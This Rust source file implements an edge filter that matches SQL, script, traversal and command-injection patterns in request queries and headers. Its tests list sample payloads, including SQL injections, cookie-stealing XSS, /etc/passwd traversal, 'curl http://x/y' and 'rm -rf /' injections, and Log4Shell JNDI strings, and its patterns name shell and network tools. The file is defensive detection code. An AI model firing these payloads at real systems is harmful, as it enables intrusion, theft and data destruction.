//! Patterns of attacks, in queries and headers.
//!
//! They are few and cautious: what they are about is hardly ever a search, a link that was clicked or a campaign's
//! parameters, so that they can be blocked at the edge of a clickstream. They keep scanners and scripts out of the
//! records; they do not make a consumer safe that puts records into SQL or HTML as they are.

use http::StatusCode;
use http::request::Parts;
use metrics::Counter;
use regex::bytes::RegexSet;

use super::subject::decoded;
use super::{TooLarge, Verdict, automaton};
use crate::edge::identity::credentials::API_KEY;
use crate::telemetry::metrics::Registry;

/// Kinds, as metrics name them, and their patterns.
const PATTERNS: [(&str, &[&str]); 4] = [
    (
        "screening:sql",
        &[
            // UNION SELECT with a column, a call or a table behind it; "credit union select account" has none.
            r#"(?i)\bunion\b\W{1,40}(?:all\W{1,40})?select\b\W{0,40}(?:null\b|@@|\*|[0-9]|[a-z0-9_."'`]{1,64}\s*(?:,|\(|from\b))"#,
            // A quote that is closed, and a comparison: ' or 1=1, " and "a"="a
            r#"(?i)['"]\s*\)*\s*(?:or|and|\|\||&&)\s+\(*\s*['"]?[a-z0-9_]{1,32}['"]?\s*(?:=|<|>|like\b)"#,
            // A second statement.
            r"(?i);\s*(?:drop|truncate|alter|create)\s+(?:table|database|schema|user|view|index)\b",
            r"(?i);\s*(?:delete\s+from|insert\s+into|update\s+[a-z0-9_.]{1,64}\s+set|exec(?:ute)?\s+[a-z0-9_.]{1,64})\b",
            // A quote, and the rest of the statement a comment: admin'--
            r#"['"]\s*\)*\s*;?\s*--\s*(?:$|&)"#,
            // Time and files.
            r"(?i)\b(?:sleep|pg_sleep)\(\s*[0-9.]{1,10}\s*\)|\bbenchmark\(\s*[0-9]{3,}|\bwaitfor\s+delay\s*['(]",
            r"(?i)\b(?:load_file|extractvalue|updatexml)\(|\bxp_cmdshell\b|\binformation_schema\.|\binto\s+(?:out|dump)file\b",
        ],
    ),
    (
        "screening:script",
        &[
            r"(?i)<\s*/?\s*script\b",
            // A handler in a tag, or in an attribute that was broken out of; a parameter named onclick is none.
            r#"(?i)<[a-z!/][^>]{0,200}[\s/"']on[a-z]{3,20}\s*="#,
            r#"(?i)["']\s+on[a-z]{3,20}\s*=\s*["'`a-z]"#,
            // javascript:void(0) is an ordinary link.
            r"(?i)\bjavascript\s*:\s*(?:alert|eval|confirm|prompt|fetch|document|window|location|import|atob)\b",
            r"(?i)<\s*(?:iframe|object|embed)\b[^>]{0,200}(?:src|srcdoc|data)\s*=",
        ],
    ),
    (
        "screening:traversal",
        &[
            // Up, and to where something lies that is nobody's; "../../about.html" is an ordinary link.
            r"(?i)\.\.[/\\](?:[^&\s]{0,100}[/\\])?(?:etc[/\\](?:passwd|shadow|hosts|group)|proc[/\\]self|windows[/\\]|boot\.ini|win\.ini|web-inf[/\\]|\.ssh[/\\]|\.env\b|\.git[/\\])",
            r"(?:\.\.[/\\]){4}",
            r"(?i)/etc/(?:passwd|shadow)\b|/proc/self/(?:environ|cmdline|fd)\b",
            r"(?i)\b(?:php|phar|expect|gopher|dict)://",
            r"\x00|(?i)%c0%ae|%u002e",
        ],
    ),
    (
        "screening:command",
        &[
            // A command with something that only a shell would understand behind it; "dogs | cat food" has not.
            r"(?i)(?:;|\||&&|\$\(|`|\n)\s*(?:/(?:usr/)?s?bin/)?(?:cat\s+[/~.]|ls\s+[-/]|rm\s+-|(?:ba|z|da)?sh\s+-|nc\s+-|(?:curl|wget)\s+(?:-|https?:)|ping\s+-[cn]|chmod\s+[+0-7]|uname\s+-|python[23]?\s+-|perl\s+-|powershell\b\s+-|cmd(?:\.exe)?\s+/c)",
            r"(?i)(?:\$\(|`)\s*(?:id|whoami|hostname|pwd|env)\s*(?:\)|`)",
            // What loggers and templates evaluate.
            r"(?i)\$\{\s*(?:jndi|lower|upper|env|sys|java|ctx)\s*:|\$\{::-",
            r"\(\)\s*\{\s*:?\s*;?\s*\}\s*;",
            r"\{\{\s*[0-9]+\s*\*\s*'?[0-9]+|<%=\s*[0-9]+\s*\*",
        ],
    ),
];

/// What nobody looks into: proofs of identity, and what the edge itself makes of a message.
const UNREAD: [&str; 6] =
    [API_KEY, "authorization", "proxy-authorization", "content-length", "content-type", "sec-websocket-key"];

/// How often a query is decoded: once by whoever reads it, and once more where it was escaped twice to pass a filter.
const DECODED_TIMES: usize = 2;

/// The patterns, and what is done about what they match.
#[derive(Debug)]
pub struct Injection {
    set: RegexSet,
    /// The kind of each pattern.
    kinds: Vec<usize>,
    matched: Vec<Counter>,
    verdict: Verdict,
}

impl Injection {
    /// Compiles them.
    ///
    /// # Errors
    /// [`TooLarge`], which they are not.
    pub fn new(verdict: Verdict, registry: &Registry) -> Result<Self, TooLarge> {
        let all = PATTERNS.iter().enumerate();
        let (kinds, texts): (Vec<_>, Vec<_>) =
            all.flat_map(|(kind, (_, texts))| texts.iter().map(move |text| (kind, *text))).unzip();
        let matched =
            PATTERNS.iter().map(|(name, _)| registry.rule_matches(name, verdict.as_str())).collect();
        Ok(Self { set: automaton(&texts)?, kinds, matched, verdict })
    }

    /// Looks at query and headers; counts each kind once a request.
    ///
    /// # Errors
    /// The status that the request is refused with.
    pub fn judge(&self, head: &Parts) -> Result<(), StatusCode> {
        let mut found = [false; PATTERNS.len()];
        let mut read = |text: &[u8]| {
            for index in &self.set.matches(text) {
                if let Some(found) = self.kinds.get(index).and_then(|kind| found.get_mut(*kind)) {
                    *found = true;
                }
            }
        };
        if let Some(query) = head.uri.query() {
            read_decoded(query.as_bytes(), &mut read);
        }
        for (name, value) in &head.headers {
            if !UNREAD.contains(&name.as_str()) {
                read_decoded(value.as_bytes(), &mut read);
            }
        }
        for (matched, _) in self.matched.iter().zip(found).filter(|(_, found)| *found) {
            matched.increment(1);
        }
        match self.verdict {
            Verdict::Block(status) if found.contains(&true) => Err(status),
            _ => Ok(()),
        }
    }

    /// The kinds that a query is of.
    #[cfg(test)]
    pub fn kinds(&self, query: &str) -> Vec<&'static str> {
        let mut kinds = Vec::new();
        read_decoded(query.as_bytes(), &mut |text| {
            kinds.extend(self.set.matches(text).iter().map(|index| PATTERNS[self.kinds[index]].0));
        });
        kinds.sort_unstable();
        kinds.dedup();
        kinds
    }
}

fn read_decoded(raw: &[u8], read: &mut impl FnMut(&[u8])) {
    read(raw);
    let mut text = decoded(raw);
    for _ in 0..DECODED_TIMES {
        let Some(decoded_once) = text else { return };
        read(&decoded_once);
        text = decoded(&decoded_once);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(query: &str) -> Vec<&'static str> {
        let registry = Registry::new().unwrap();
        thread_local! {
            static BLOCK: std::cell::OnceCell<Injection> = const { std::cell::OnceCell::new() };
        }
        BLOCK.with(|cell| {
            let make = || Injection::new(Verdict::Count, &registry).unwrap();
            cell.get_or_init(make).kinds(query)
        })
    }

    #[test]
    fn attacks_are_found_however_they_are_escaped() {
        let attacks = [
            ("id=1 union select null,null", "sql"),
            ("id=1%20UNION%20ALL%20SELECT%20user,password%20from%20users", "sql"),
            ("id=1/**/union/**/select/**/1", "sql"),
            ("id=1+union+select+@@version", "sql"),
            ("user=admin' or '1'='1", "sql"),
            ("user=admin%27%20OR%201%3D1", "sql"),
            ("user=%2527%2520or%25201%253D1", "sql"),
            ("user=admin'--", "sql"),
            ("user=x') and (a=1", "sql"),
            ("id=1;drop table users", "sql"),
            ("id=1%3B%20DELETE%20FROM%20events", "sql"),
            ("id=1; update users set admin", "sql"),
            ("id=sleep(5)", "sql"),
            ("id=1 waitfor delay '0:0:5'", "sql"),
            ("id=load_file('x')", "sql"),
            ("q=<script>alert(1)</script>", "script"),
            ("q=%3Cscript%20src%3D//x%3E", "script"),
            ("q=%253Cscript%253E", "script"),
            ("q=<img src=x onerror=alert(1)>", "script"),
            ("q=<svg/onload=alert(1)>", "script"),
            ("q=\" onmouseover=alert(1) x=\"", "script"),
            ("u=javascript:alert(document.cookie)", "script"),
            ("q=<iframe src=//x>", "script"),
            ("file=../../../../etc/hostname", "traversal"),
            ("file=..%2f..%2fetc%2fpasswd", "traversal"),
            ("file=%252e%252e%252fetc%252fpasswd", "traversal"),
            ("file=..\\windows\\system32", "traversal"),
            ("file=/etc/passwd", "traversal"),
            ("file=a.png%00.php", "traversal"),
            ("file=php://filter/convert", "traversal"),
            ("host=a;cat /etc/x", "command"),
            ("host=a|curl http://x/y", "command"),
            ("host=a%60id%60", "command"),
            ("host=$(whoami)", "command"),
            ("host=a%26%26rm%20-rf%20/", "command"),
            ("ua=${jndi:ldap://x/a}", "command"),
            ("ua=%24%7B%6a%6e%64%69%3aldap://x%7D", "command"),
            ("ua=() { :;}; echo", "command"),
            ("name={{7*7}}", "command"),
        ];
        for (query, kind) in attacks {
            let found = kinds(query);
            assert!(found.contains(&format!("screening:{kind}").as_str()), "{query}: {found:?}");
        }
    }

    #[test]
    fn ordinary_queries_of_clickstreams_are_left_alone() {
        let ordinary = [
            "utm_source=news&utm_medium=email&utm_campaign=black-friday_2026&gclid=Cj0KCQiA-x_y",
            "q=credit+union+select+account&sort=-price",
            "q=rock+%27n%27+roll+or+blues&page=2",
            "q=it%27s+and+isn%27t+--+maybe",
            "q=%22exact+phrase%22+and+another&lang=en",
            "q=dogs+%7C+cat+food&tags=a|cat|dog|ls",
            "q=sleep+(2014)+film&category=movies;drama",
            "q=select+from+our+range;+update+your+wardrobe",
            "q=1+%3C+2+and+3+%3E+2",
            "href=javascript:void(0)&onclick=buy&event=click",
            "href=../../about.html&ref=..%2F..%2Findex.html",
            "page=file:///C:/Users/ann/saved%20page.html",
            "dl=https%3A%2F%2Fshop.example%2Fp%2F1%3Fa%3Db%26c%3Dd&dt=Shoes%20%26%20Socks%20%E2%80%93%20Shop",
            "_ga=GA1.2.1234567890.1700000000&cid=abc==&sig=a%2Bb%2Fc%3D",
            "name=O%27Brien&price=$(10)&tpl={{campaign.name}}",
            "ua=Mozilla/5.0+(X11;+Linux+x86_64)+AppleWebKit/537.36+(KHTML,+like+Gecko)",
            "sel=div%3Anth-child(2)%3Ea&text=%3CButton%3E",
            "json=%7B%22a%22%3A%5B1%2C2%5D%2C%22b%22%3A%22c%22%7D",
            "q=100%25+cotton&p=50%",
            "email=a.b%2Bc@example.com",
        ];
        for query in ordinary {
            assert_eq!(kinds(query), [""; 0], "{query}");
        }
    }
}
